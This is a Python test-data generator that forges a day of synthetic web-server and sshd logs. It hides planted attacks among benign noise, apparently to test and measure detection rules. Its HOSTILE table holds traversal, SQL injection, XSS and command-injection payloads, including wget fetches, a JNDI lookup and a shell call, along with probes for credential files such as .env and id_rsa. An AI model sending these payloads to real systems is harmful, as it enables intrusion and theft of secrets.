"""Logs of a day, made from a seed: normal traffic of a web server and of sshd, and attacks in it, of which it is known where.

Normal traffic is what makes false alarms: people who mistype passwords, broken links, searches with quotes and operators,
monitoring, robots that look for pages that are gone.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from urllib.parse import quote

from handlers.contracts.threats import DETECTIONS

DAY_S = 86_400
USERS = ("ada", "bob", "grace", "linus", "margaret", "ken", "barbara", "deploy", "backup", "git")
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/119.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.4.0",
    "Prometheus/2.45.0",
    "-",
)
PATHS = [
    "/",
    "/index.html",
    "/products",
    "/products/lamp-3",
    "/cart",
    "/checkout",
    "/login",
    "/logout",
    "/api/v1/orders",
    "/health",
    "/static/app.js",
    "/img/lamp.webp",
    "/favicon.ico",
    "/robots.txt",
    "/.well-known/security.txt",
    "/cgi-bin/status",
    "/api/v1/orders/7?expand=lines&sort=-at",
    "/wiki/Script",
    "/blog/2023/11/select-the-union-of-two-lists",
    "/blog/rock-and-roll",
    "/docs/shell/cat-and-dog.html",
    "/?sort=name|id",
    "/w/api.php?titles=Bash|Perl|Ruby",
    "/?q=dog%26cat",
    "/?q=hello%0Acat%20is",
    "/?fields=name;id;dir",
    "/?q=black%20%26%20white",
    "/?q=rock%20%26%20ping",
    "/?text=a;%20id",
    "/server-status?auto",
    "/server-status?refresh=5",
]
SEARCHED = """desk lamp|O'Reilly and sons|rock 'n' roll|lamp & chair|50% off|a+b=c|C++ or Rust|salt; pepper|x > y|select a chair
union of two sets|drop shadow|drop table lamp|order by phone|(live) and in concert|“smart” lamp|1 and 2|on sale = yes|id card
ls models|script font|Müller straße|tom;jerry|null|file:readme|sleep (5 tips)|rock'n'roll or jazz
cats; cat food|me & python|tom & cat 5 cable|version (1.2) and user (new)|5 or true love|echo & dot|java & python -snake
apache & php 8.2|bird & cat and/or dog|linux; dig deeper|bash & perl, python|O'Neill and if not|list; select all (new)"""
SEARCHES = SEARCHED.replace("\n", "|").split("|")
HOSTILE = {
    "web-traversal": [
        r"/../../etc/x",
        r"/%2e%2e/%2e%2e/x",
        r"/a?file=..%2f..%2fx",
        r"/%252e%252e%252fx",
        r"/a/..;/manager",
        r"/x/..\..\y",
    ],
    "web-sql-injection": [
        "/p?id=1%20or%201=1",
        "/p?id=1'%20OR%20'1'='1",
        "/p?id=1+union+select+1,2,3",
        "/p?id=1;drop%20table%20users",
        "/p?id=1%2520union%2520all%2520select%25201",
        "/p?id=sleep(5)",
        "/p?q=admin'--",
        "/p?id=1/**/union/**/select/**/1",
        "/p?id=1'%20AND%20SUBSTRING(version(),1,1)='5",
        "/p?id=1'%20and%20ascii(substring(password,1,1))%3E64--%20-",
        "/p?id=1%20or%20true",
        "/p?id=-1%20union%20/*!50000select*/%201,2",
        "/p?id=-1%20/*!50000union*/%20all%20/*!select*/%201,2",
        "/p?id=1'%20or%20not%20exists(select%201)--%20-",
        "/p?id=1;select%20*%20from%20users",
        "/p?id=1;select%20name,pass%20from%20users--",
    ],
    "web-xss": [
        "/s?q=<script>alert(1)</script>",
        "/s?q=%3Cscript%3Ex%3C/script%3E",
        "/s?u=javascript:x",
        "/s?q=<svg/onload=x>",
        "/s?q=%253Cimg%2520src%253Dx%2520onerror%253Dx%253E",
        "/s?q=%22%20onmouseover=x",
    ],
    "web-command-injection": [
        "/p?h=1;id",
        "/p?h=1%7Ccat%20/x",
        "/p?h=%24(whoami)",
        "/p?h=%60id%60",
        "/p?h=1%26%26wget%20x",
        "/p?h=1%253Bid",
        "/p?h=127.0.0.1%7Cid",
        "/p?h=a;ls%20-la",
        "/p?h=a%0Acat%20/etc/x",
        "/p?h=a%26ping%20x.example.com",
        "/p?h=a;sleep%205",
        "/p?h=a%7C/usr/bin/id",
        "/p?h=a;id>/tmp/x",
        "/p?h=a;wget%20http://x/y",
        "/p?x=${jndi:ldap://x/y}",
        "/cgi-bin/x?;/bin/sh",
    ],
    "web-secret-file": [
        "/.env",
        "/.git/config",
        "/app/.aws/credentials",
        "/wp-config.php",
        "/id_rsa",
        "/%2egit/HEAD",
        "/backup.sql",
    ],
}
SCANNERS = ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "Nuclei - Open-source", "gobuster/3.6")


@dataclass
class Made:
    """Lines in the order of their times, and who attacks: rule and subject."""

    web: list[tuple[float, str]] = field(default_factory=list)
    auth: list[tuple[float, str]] = field(default_factory=list)
    planted: set[tuple[str, str]] = field(default_factory=set)

    @property
    def lines(self) -> int:
        return len(self.web) + len(self.auth)

    def text(self, which: str) -> str:
        return "".join(f"{line}\n" for _, line in sorted(getattr(self, which)))


def web_line(at: float, src: str, target: str, status: int = 200, agent: str = AGENTS[0], referer: str = "-") -> str:
    """Return a line as nginx writes it."""
    time = datetime.fromtimestamp(at, UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{src} - - [{time}] "GET {target} HTTP/1.1" {status} 512 "{referer}" "{agent}"'


def ssh_line(at: float, message: str, program: str = "sshd", host: str = "web1") -> str:
    """Return a line as syslog writes it."""
    moment = datetime.fromtimestamp(at, UTC)
    return f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} {host} {program}[4711]: {message}"


def failed(user: str, src: str, *, is_known: bool = True) -> str:
    return f"Failed password for {'' if is_known else 'invalid user '}{user} from {src} port 40000 ssh2"


def accepted(user: str, src: str) -> str:
    return f"Accepted publickey for {user} from {src} port 40000 ssh2: ED25519 SHA256:AAAA"


class Smith:
    """Makes the lines of a day that ends at `end`."""

    def __init__(self, seed: int, end: float) -> None:
        self._random = random.Random(seed)
        self._begin = end - DAY_S
        self._attackers = 0

    def _moment(self, length_s: float = 0.0) -> float:
        return self._begin + self._random.random() * (DAY_S - length_s - 1)

    def web(self, count: int) -> Iterator[tuple[float, str]]:
        """Normal requests. A visitor has a few broken links, and a search now and then."""
        rng = self._random
        for _ in range(count):
            at, src = self._moment(), f"198.51.{rng.randrange(100)}.{rng.randrange(250)}"
            target, status = rng.choice(PATHS), 200
            dice = rng.random()
            if dice < 0.05:
                target = f"/search?q={quote(rng.choice(SEARCHES))}&page={rng.randrange(9)}"
            elif dice < 0.08:
                target, status = f"/old/page-{rng.randrange(10**6)}.html", 404
            elif dice < 0.085:
                status = rng.choice((500, 502, 503))
            yield at, web_line(at, src, target, status, rng.choice(AGENTS), rng.choice(("-", "https://shop.example.com/")))

    def auth(self, count: int) -> Iterator[tuple[float, str]]:
        """Normal logins, with a password that is mistyped up to three times, and noise of others."""
        rng, left = self._random, count
        people = max(50, count // 20)  # each logs in a few times
        while left > 0:
            person = rng.randrange(people)
            at, src = self._moment(120), f"203.{person // 62_500}.{person // 250 % 250}.{person % 250}"
            user = f"{USERS[person % len(USERS)]}{person // 30 or ''}"  # who has three addresses
            messages = [failed(user, src)] * rng.choice((0, 0, 0, 0, 0, 1, 1, 2, 3)) + [accepted(user, src)]
            messages += [f"pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)", "Connection closed"]
            if rng.random() < 0.3:
                yield at, ssh_line(at, f"pam_unix(cron:session): session closed for user {user}", "CRON")
                left -= 1
            for number, message in enumerate(messages[:left]):
                yield at + 5.0 * number, ssh_line(at + 5.0 * number, message)
            left -= len(messages)

    def _attacker(self) -> str:
        self._attackers += 1
        return f"192.0.{self._attackers // 250 + 2}.{self._attackers % 250}"

    def attack(self, rule: str, made: Made) -> None:
        """Plant one attack."""
        getattr(self, f"_{rule.split('-')[0]}")(rule, made)

    def _ssh(self, rule: str, made: Made) -> None:
        rng, src, at = self._random, self._attacker(), self._moment(600)
        match rule:
            case "ssh-brute-force":
                said, subject = [failed("root", src)] * 12, src
            case "ssh-success-after-failures":
                said, subject = [*[failed("ada", src)] * 6, f"Accepted password for ada from {src} port 40000 ssh2"], src
            case "ssh-spraying":
                said, subject = [failed(f"user{n}", src, is_known=False) for n in range(9)], src
            case _:
                subject = f"victim{self._attackers}"
                said = [failed(subject, self._attacker()) for _ in range(22)]
        then = at
        for message in said:
            then += rng.uniform(1, 10)
            made.auth.append((then, ssh_line(then, message)))
        made.planted.add((rule, subject))

    def _web(self, rule: str, made: Made) -> None:
        rng, src, at = self._random, self._attacker(), self._moment(600)
        if rule.endswith("-burst"):
            status = 404 if "4xx" in rule else 500
            asked = [(f"/page-{n}", status, AGENTS[0]) for n in range(80)]
        elif rule == "web-scanner":
            asked = [("/", 200, rng.choice(SCANNERS))]
        else:
            asked = [(rng.choice(HOSTILE[rule]), rng.choice((200, 403, 404)), AGENTS[0])]
        for number, (target, status, agent) in enumerate(asked):
            then = at + number * 0.5
            made.web.append((then, web_line(then, src, target, status, agent)))
        made.planted.add((rule, src))


def forge(seed: int, lines: int, end: float, attacks: int = 3) -> Made:
    """Return a day with so many lines of normal traffic, half of it web and half sshd, and so many attacks of each kind."""
    smith, made = Smith(seed, end), Made()
    made.web = list(smith.web(lines // 2))
    made.auth = list(smith.auth(lines - lines // 2))
    for rule in DETECTIONS:
        for _ in range(attacks):
            smith.attack(rule, made)
    return made
